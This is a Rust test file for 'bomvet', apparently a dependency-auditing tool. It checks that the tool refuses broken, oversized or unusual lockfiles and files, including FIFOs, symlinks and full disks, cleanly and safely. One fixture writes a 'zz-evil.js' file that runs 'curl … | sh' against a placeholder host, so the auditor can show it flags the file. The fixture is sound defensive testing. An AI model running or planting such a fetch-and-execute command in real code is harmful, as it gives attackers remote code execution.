//! Input that nobody meant to give, and systems that refuse: a clear error, a documented code, and
//! nothing lost.

use std::collections::BTreeMap;
use std::path::Path;
use std::process::Stdio;

use crate::project::{Packed, Project, crate_lib, npm_lib, outputs, package, text};

const PURE: &str = "module.exports = (a, b) => a + b;\n";

#[derive(Clone, Copy)]
enum Kind {
    Npm,
    Cargo,
}

impl Kind {
    fn project(self) -> Project {
        let mut project = Project::new();
        match self {
            Self::Npm => {
                project.write("index.js", PURE);
                project.npm(&[npm_lib("fine", "1.0.0", PURE)]);
            }
            Self::Cargo => project.cargo(&[crate_lib("fine", "1.0.0", "//! Nothing.\n")]),
        }
        project
    }

    fn lockfile(self) -> &'static str {
        match self {
            Self::Npm => "package-lock.json",
            Self::Cargo => "Cargo.lock",
        }
    }
}

/// An audit that cannot be done: code 2, nothing on standard output, what an earlier audit wrote
/// untouched. Gives the message.
fn refused(project: &Project) -> String {
    std::fs::write(project.out().join("bom.cdx.json"), "earlier").unwrap();
    let run = project.run(&["--format", "json"]);
    let error = text(&run.stderr);
    assert_eq!(run.status.code(), Some(2), "{error}\n{}", text(&run.stdout));
    assert_eq!(text(&run.stdout), "", "{error}");
    let files = outputs(&project.out());
    assert_eq!(files, BTreeMap::from([("bom.cdx.json".to_owned(), b"earlier".to_vec())]), "{error}");
    error
}

/// Changes the lockfile and gives the refusal.
fn broken(kind: Kind, change: impl FnOnce(&Path, String)) -> String {
    let project = kind.project();
    let path = project.root().join(kind.lockfile());
    let before = std::fs::read_to_string(&path).unwrap();
    change(&path, before);
    refused(&project)
}

#[test]
fn lockfiles_of_npm() {
    let go = |change: fn(&Path, String)| broken(Kind::Npm, change);
    let write = |path: &Path, bytes: &[u8]| std::fs::write(path, bytes).unwrap();
    let all = [
        go(|path, _| std::fs::remove_file(path).unwrap()),
        go(|path, _| std::fs::write(path, "").unwrap()),
        go(|path, text| std::fs::write(path, &text[..text.len() - 60]).unwrap()),
        broken(Kind::Npm, |path, _| write(path, b"{\n\n\"a\": \"\xff\"}")),
        broken(Kind::Npm, |path, text| {
            let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            write(path, &[b"\xff\xfe".as_slice(), &wide].concat());
        }),
        go(|path, text| {
            std::fs::write(path, text.replace("\"lockfileVersion\": 3", "\"lockfileVersion\": 9")).unwrap();
        }),
        go(|path, text| {
            let conflict = text.replacen('{', "{\n<<<<<<< HEAD\n", 1) + "=======\n>>>>>>> theirs\n";
            std::fs::write(path, conflict).unwrap();
        }),
        go(|path, _| std::fs::write(path, "[]").unwrap()),
        go(|path, _| {
            std::fs::remove_file(path).unwrap();
            std::fs::create_dir(path).unwrap();
        }),
    ];
    insta::assert_snapshot!(all.concat(), @r#"
    error: no lockfile, skill or agent configuration that is read below `.`; run `cargo generate-lockfile` or `npm install --package-lock-only` first
    error: package-lock.json:1:1: the file is empty
      help: write it again with `npm install --package-lock-only`
    error: package-lock.json:16:8: not JSON: the text ends within a string that starts in line 16
      help: write it again with `npm install --package-lock-only`
    error: package-lock.json:3:1: not UTF-8
      help: write the file again with the package manager
    error: package-lock.json:1:1: not UTF-8
      help: write the file again with the package manager
    error: package-lock.json:4:22: lockfileVersion 9 is not known, only 1, 2 and 3 are
      help: look for a newer bomvet, or write version 3 with `npm install --package-lock-only --lockfile-version 3`
    error: package-lock.json:2:1: a merge conflict is not resolved (`<<<<<<<`)
      help: resolve it (`npm install --package-lock-only` does so for a lockfile), then audit again
    error: package-lock.json:1:1: expected an object, found an array
      help: write it again with `npm install --package-lock-only`
    error: no lockfile, skill or agent configuration that is read below `.`; run `cargo generate-lockfile` or `npm install --package-lock-only` first
      `package-lock.json` could not be read: it is a folder
    "#);
}

#[test]
fn lockfiles_of_cargo() {
    let go = |change: fn(&Path, String)| broken(Kind::Cargo, change);
    let all = [
        go(|path, _| std::fs::remove_file(path).unwrap()),
        go(|path, _| std::fs::write(path, "").unwrap()),
        go(|path, text| std::fs::write(path, &text[..text.len() - 60]).unwrap()),
        go(|path, _| std::fs::write(path, b"version = 4\n\xff").unwrap()),
        go(|path, text| std::fs::write(path, text.replace("version = 4", "version = 9")).unwrap()),
        go(|path, text| {
            std::fs::write(path, format!("version = 4\n<<<<<<< HEAD\n{text}=======\n>>>>>>> theirs\n"))
                .unwrap();
        }),
        go(|path, _| {
            std::fs::remove_file(path).unwrap();
            std::fs::create_dir(path).unwrap();
        }),
    ];
    insta::assert_snapshot!(all.concat(), @r#"
    error: no lockfile, skill or agent configuration that is read below `.`; run `cargo generate-lockfile` or `npm install --package-lock-only` first
    error: Cargo.lock:1:1: the lockfile is empty
      help: restore it from version control, or write it again with `cargo generate-lockfile`
    error: Cargo.lock:14:19: the lockfile ends too early: invalid basic string, expected `"`
      help: restore it from version control, or write it again with `cargo generate-lockfile`
    error: Cargo.lock:2:1: not UTF-8
      help: write the file again with the package manager
    error: Cargo.lock:1:11: lockfile version `9` is not known; 1 to 4 are
      help: update bomvet, or write the lockfile again with a released cargo
    error: Cargo.lock:2:1: a merge conflict is not settled here
      help: settle it, for example with `git checkout --theirs Cargo.lock` and `cargo update --workspace`
    error: no lockfile, skill or agent configuration that is read below `.`; run `cargo generate-lockfile` or `npm install --package-lock-only` first
      `Cargo.lock` could not be read: it is a folder
    "#);
}

/// One gigabyte that takes no room on the disk; it is not read.
#[test]
fn a_lockfile_of_a_gigabyte_is_not_read() {
    for kind in [Kind::Npm, Kind::Cargo] {
        let began = std::time::Instant::now();
        let error = broken(kind, |path, _| {
            std::fs::File::options().write(true).open(path).unwrap().set_len(1 << 30).unwrap();
        });
        let says = ":1:1: 1073741824 bytes, more than the limit of 268435456";
        assert!(error.contains(&format!("{}{says}", kind.lockfile())), "{error}");
        assert!(began.elapsed().as_secs() < 5, "{:?}", began.elapsed());
    }
}

#[test]
fn a_manifest_of_a_gigabyte_is_not_read() {
    let project = Kind::Cargo.project();
    let path = project.root().join("Cargo.toml");
    std::fs::File::options().write(true).open(path).unwrap().set_len(1 << 30).unwrap();
    let run = project.run(&[]);
    let said = text(&run.stdout);
    assert_eq!(run.status.code(), Some(1), "{said}");
    assert!(said.contains("gap/not-seen]: `Cargo.toml` is not read: it goes beyond"), "{said}");
    assert!(said.contains("1 approved, 1 denied"), "the other package is judged: {said}");
}

/// A second project in the tree that is broken names itself, and its folder can be left out.
#[test]
fn one_broken_project_of_two_says_which() {
    let project = Kind::Npm.project();
    project.write("sub/package-lock.json", "{");
    assert!(refused(&project).starts_with("error: sub/package-lock.json:1:"));
    project.write("bomvet.toml", "[project]\nexclude = [\"sub/**\"]\n");
    assert_eq!(project.run(&[]).status.code(), Some(0));
}

#[cfg(unix)]
mod files_that_are_none {
    use std::os::unix::fs::symlink;

    use super::*;

    fn replace(project: &Project, file: &str, make: impl FnOnce(&Path)) {
        let path = project.root().join(file);
        let _ = std::fs::remove_file(&path);
        make(&path);
    }

    fn fifo(path: &Path) {
        #[expect(clippy::disallowed_methods, reason = "makes the input under test")]
        let made = std::process::Command::new("mkfifo").arg(path).status().unwrap();
        assert!(made.success());
    }

    /// Reading a pipe would never end, reading `/dev/zero` neither. Each is refused or a gap of its
    /// package, and whatever else is in the tree is judged.
    #[test]
    fn pipes_devices_and_links_stop_nothing() {
        type Make = fn(&Path);
        let zero: Make = |path| symlink("/dev/zero", path).unwrap();
        let itself: Make = |path| symlink(path.file_name().unwrap(), path).unwrap();
        let outside: Make = |path| symlink("/etc/passwd", path).unwrap();
        for (kind, file, make, code, says) in [
            (Kind::Npm, "package-lock.json", fifo as Make, 2, "package-lock.json:1:1: not a regular file"),
            (
                Kind::Npm,
                "package-lock.json",
                zero,
                2,
                "`package-lock.json` is a link that leaves the audited",
            ),
            (
                Kind::Npm,
                "package-lock.json",
                itself,
                2,
                "`package-lock.json` could not be read: it is a link that leads nowhere",
            ),
            (Kind::Npm, "package.json", fifo, 2, "package.json:1:1: not a regular file"),
            (
                Kind::Npm,
                "package.json",
                outside,
                1,
                "high[discover/link-leaves]: `package.json` is a link that leaves",
            ),
            (
                Kind::Npm,
                "index.js",
                fifo,
                1,
                "high[gap/not-seen]: `index.js` is a device, FIFO or socket (index.js)",
            ),
            (Kind::Npm, "index.js", zero, 1, "high[gap/not-seen]: `index.js` links to a place outside"),
            (Kind::Npm, ".npmrc", fifo, 1, "high[gap/not-seen]: `.npmrc` is a device, FIFO or socket"),
            (Kind::Npm, "bomvet.toml", fifo, 2, "bomvet.toml`: it is not a regular file"),
            (Kind::Npm, "bomvet.toml", outside, 2, "bomvet.toml`: it is a link that leaves the folder"),
            (Kind::Cargo, "Cargo.lock", fifo, 2, "Cargo.lock:1:1: not a regular file"),
            (Kind::Cargo, "Cargo.lock", zero, 2, "`Cargo.lock` is a link that leaves the audited folder"),
            (
                Kind::Cargo,
                "Cargo.toml",
                fifo,
                1,
                "high[gap/not-seen]: `Cargo.toml` is a device, FIFO or socket",
            ),
            (
                Kind::Cargo,
                "Cargo.toml",
                outside,
                1,
                "high[discover/link-leaves]: `Cargo.toml` is a link that leaves",
            ),
            (Kind::Cargo, "src/lib.rs", zero, 1, "high[gap/not-seen]: `src/lib.rs` links to a place outside"),
        ] {
            let project = kind.project();
            replace(&project, file, make);
            let run = project.run(&[]);
            let said = text(&run.stdout) + &text(&run.stderr);
            assert_eq!(run.status.code(), Some(code), "{file}: {said}");
            assert!(said.contains(says), "{file}: {said}");
            assert!(code == 2 || said.contains("1 approved, 1 denied"), "{file}: {said}");
            assert!(!said.contains("root:"), "{file} shows what it links to: {said}");
        }
    }

    #[test]
    fn links_in_a_circle_end() {
        for kind in [Kind::Npm, Kind::Cargo] {
            let project = kind.project();
            let before = project.run(&[]).status.code();
            std::fs::create_dir(project.root().join("sub")).unwrap();
            symlink("..", project.root().join("sub/loop")).unwrap();
            symlink(".", project.root().join("me")).unwrap();
            symlink("b", project.root().join("a")).unwrap();
            symlink("a", project.root().join("b")).unwrap();
            let run = project.run(&[]);
            assert!(before.is_some_and(|code| code != 2));
            assert!(run.status.code().is_some_and(|code| code < 2 || code == 3), "{}", text(&run.stderr));
            assert!(text(&run.stdout).contains("2 packages"), "{}", text(&run.stdout));
        }
    }

    /// A workspace member whose folder is a link that leaves: what lies there is not read, and said.
    #[test]
    fn a_package_folder_that_is_a_link_out_is_not_followed() {
        let project = Kind::Npm.project();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("package.json"), "{\"name\": \"w\", \"version\": \"1.0.0\"}")
            .unwrap();
        std::fs::write(outside.path().join("secret.js"), "module.exports = 'SECRET-OF-ANOTHER';\n").unwrap();
        symlink(outside.path(), project.root().join("w")).unwrap();
        let lock = project.root().join("package-lock.json");
        let text_of = std::fs::read_to_string(&lock).unwrap();
        let more = "\"node_modules/w\": {\"resolved\": \"w\", \"link\": true}, \"w\": {\"version\": \"1.0.0\"}, \"node_modules/fine\"";
        std::fs::write(&lock, text_of.replacen("\"node_modules/fine\"", more, 1)).unwrap();
        let document = project.audit(&[]);
        let own = package(&document, "w");
        assert_eq!(own["verdict"], "deny", "{own:#}");
        assert!(own["reasons"].to_string().contains("outside of the audited folder"), "{own:#}");
        assert!(!document.to_string().contains("SECRET-OF-ANOTHER"));
        assert_eq!(package(&document, "fine")["verdict"], "approve");
    }

    /// The same of a cargo workspace, for a member and for a dependency by path.
    #[test]
    fn a_crate_folder_that_is_a_link_out_is_not_followed() {
        let outside = tempfile::tempdir().unwrap();
        std::fs::create_dir(outside.path().join("src")).unwrap();
        std::fs::write(outside.path().join("Cargo.toml"), "[package]\nname = \"w\"\nversion = \"1.0.0\"\n")
            .unwrap();
        std::fs::write(outside.path().join("src/lib.rs"), "//! SECRET-OF-ANOTHER\n").unwrap();
        for line in ["[workspace]\nmembers = [\"w\"]\n", "[dependencies.w]\npath = \"w\"\n"] {
            let project = Kind::Cargo.project();
            symlink(outside.path(), project.root().join("w")).unwrap();
            let append = |file: &str, more: &str| {
                let before = std::fs::read_to_string(project.root().join(file)).unwrap();
                project.write(file, format!("{before}\n{more}"));
            };
            append("Cargo.toml", line);
            append("Cargo.lock", "[[package]]\nname = \"w\"\nversion = \"1.0.0\"\n");
            let document = project.audit(&[]);
            assert_eq!(document["verdict"], "deny", "{line}");
            let said = document["packages"].to_string();
            assert!(said.contains("outside"), "{line}: {said}");
            assert!(!document.to_string().contains("SECRET-OF-ANOTHER"), "{line}");
            assert_eq!(package(&document, "fine")["verdict"], "approve", "{line}");
        }
    }

    /// What is not to be read is a gap of that file. Root reads everything, so it is skipped then.
    #[test]
    fn a_file_without_permission_is_a_gap() {
        use std::os::unix::fs::PermissionsExt as _;
        let project = Kind::Npm.project();
        let path = project.root().join("index.js");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o000)).unwrap();
        if std::fs::read(&path).is_ok() {
            eprintln!("skipped: this user (root?) reads what has no permission");
            return;
        }
        let run = project.run(&[]);
        let said = text(&run.stdout);
        assert_eq!(run.status.code(), Some(1), "{said}");
        assert!(said.contains("gap/not-seen]: `index.js` cannot be read: permission denied"), "{said}");
    }

    fn shell(project: &Project, script: &str) -> std::process::Output {
        #[expect(clippy::disallowed_methods, reason = "limits what the program under test may write")]
        let mut command = std::process::Command::new("sh");
        let audit: Vec<_> = project.audit_args();
        command
            .args(["-c", script, env!("CARGO_BIN_EXE_bomvet")])
            .args(audit)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("HOME", project.home())
            .env("SOURCE_DATE_EPOCH", crate::project::EPOCH)
            .current_dir(project.root())
            .output()
            .unwrap()
    }

    /// No file may grow beyond 4 kB: the store and the BoM cannot be written.
    #[test]
    fn a_full_disk_leaves_what_was_there() {
        let project = Kind::Npm.project();
        assert_eq!(project.run(&[]).status.code(), Some(0));
        let before = outputs(&project.out());
        project.write("index.js", "module.exports = (a, b) => b + a;\n");
        let run = shell(&project, "trap '' XFSZ; ulimit -f 8; exec \"$0\" \"$@\"");
        let error = text(&run.stderr);
        assert_eq!(run.status.code(), Some(2), "{error}");
        assert!(
            error.contains("cannot write `") && error.contains("bom.cdx.json`: File too large"),
            "{error}"
        );
        assert!(error.contains("what was there before is unchanged"), "{error}");
        assert!(before == outputs(&project.out()), "{:?}", outputs(&project.out()).keys());
        // With room again it goes on.
        assert_eq!(project.run(&[]).status.code(), Some(0));
        assert!(before != outputs(&project.out()));
    }

    #[test]
    fn a_full_standard_output_is_an_error_and_a_closed_one_is_not() {
        if !Path::new("/dev/full").exists() {
            eprintln!("skipped: there is no /dev/full");
            return;
        }
        let project = Kind::Npm.project();
        for command in ["audit", "rules", "completions", "verify"] {
            let arguments = match command {
                "audit" => "\"$@\"",
                "rules" => "rules list",
                "completions" => "completions bash",
                _ => "verify --allow-unsigned ../out/bom.cdx.json",
            };
            let run = shell(&project, &format!("exec \"$0\" {arguments} > /dev/full"));
            let error = text(&run.stderr);
            assert_eq!(run.status.code(), Some(2), "{command}: {error}");
            assert!(error.contains("cannot write to standard output"), "{command}: {error}");
            let run = shell(&project, &format!("{{ \"$0\" {arguments}; echo \"code $?\" >&2; }} | true"));
            let error = text(&run.stderr);
            assert!(error.contains("code 0") && !error.contains("panicked"), "{command}: {error}");
            let run = shell(&project, &format!("exec \"$0\" {arguments} 2> /dev/full"));
            assert_eq!(run.status.code(), Some(0), "{command}");
        }
    }
}

/// A file too large and one of the wrong kind in one package: both are said, the others are read.
#[test]
fn one_file_does_not_keep_the_others_from_being_seen() {
    let project = Kind::Npm.project();
    let big = project.root().join("big.js");
    std::fs::File::create(&big).unwrap().set_len(300 << 20).unwrap();
    project.write("bytes.js", b"\xff\xfe\x00\x01binary".as_slice());
    project.write("wrong.json", "not json at all");
    project.write(
        "zz-evil.js",
        "const { exec } = require('child_process');\nexec('curl -s https://x.invalid/a | sh');\n",
    );
    let document = project.audit(&[]);
    let own = package(&document, "app");
    let said = own["reasons"].to_string();
    assert!(said.contains("`big.js` is not read: it goes beyond"), "{said}");
    let capabilities = own["capabilities"].to_string();
    assert!(capabilities.contains("process") && capabilities.contains("zz-evil.js"), "{capabilities}");
    assert_eq!(package(&document, "fine")["verdict"], "approve");
}

#[test]
fn an_output_folder_that_is_none_is_said() {
    let project = Kind::Npm.project();
    std::fs::write(project.root().join("taken"), "mine").unwrap();
    let run = project
        .bomvet()
        .args(["audit", ".", "--offline", "--unsigned", "--lockfile-only", "-o", "taken"])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(2));
    assert!(text(&run.stderr).contains("cannot create `taken`"), "{}", text(&run.stderr));
    assert_eq!(std::fs::read_to_string(project.root().join("taken")).unwrap(), "mine");
    // A folder in the place of the last of the files: none of the others is written either.
    std::fs::create_dir(project.out().join("bomvet.sarif")).unwrap();
    let run = project.run(&[]);
    assert_eq!(run.status.code(), Some(2));
    assert!(text(&run.stderr).contains("bomvet.sarif`"), "{}", text(&run.stderr));
    assert_eq!(std::fs::read_dir(project.out()).unwrap().count(), 1);
}

#[test]
fn two_audits_at_once_share_a_store() {
    let mut project = Project::new();
    let packages: Vec<Packed> = (0..40)
        .map(|n| npm_lib(&format!("shared-part-{n}"), "1.0.0", &format!("module.exports = {n};\n")))
        .collect();
    project.npm(&packages);
    let start = |name: &str| {
        let out = project.root().join("..").join(name);
        let child = project
            .bomvet()
            .args(["audit", ".", "--offline", "--lockfile-only", "--unsigned", "--db"])
            .arg(project.db())
            .arg("--output")
            .arg(&out)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        (child, out)
    };
    let running = ["one", "two", "three"].map(start);
    let results = running.map(|(child, out)| {
        let run = child.wait_with_output().unwrap();
        assert_eq!(run.status.code(), Some(0), "{}", text(&run.stderr));
        (text(&run.stdout), outputs(&out))
    });
    assert!(results[0].1.len() == 4 && results[0] == results[1] && results[1] == results[2]);
    let store = bomvet::store::Store::open(project.home().join(".cache/bomvet")).verify_all().unwrap();
    assert_eq!(store.damaged, []);
    assert!(store.sound >= 40, "{}", store.sound);
}
